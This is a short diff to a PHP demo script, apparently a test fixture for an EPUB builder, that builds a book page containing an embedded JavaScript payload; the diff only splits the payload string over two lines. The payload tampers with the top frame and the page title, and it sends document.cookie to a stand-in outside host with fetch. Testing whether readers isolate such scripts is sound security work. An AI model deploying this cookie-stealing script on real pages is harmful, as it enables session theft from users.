@@ -11,7 +11,8 @@ use FigPorch\Demo\EpubBuilder;
 require __DIR__ . '/../../vendor/autoload.php';
 
 $harm =
-    'try { top.harmed = 1; top.document.title = "harmed" } catch (e) {} document.title = "harmed"; fetch("https://elsewhere.example/" + document.cookie)';
+    'try { top.harmed = 1; top.document.title = "harmed" } catch (e) {} document.title = "harmed"; ' .
+    'fetch("https://elsewhere.example/" + document.cookie)';
 $attribute = htmlspecialchars($harm, ENT_XML1 | ENT_QUOTES);
 $html = <<<HTML
 <h1>Harmful</h1><script>{$harm}</script>
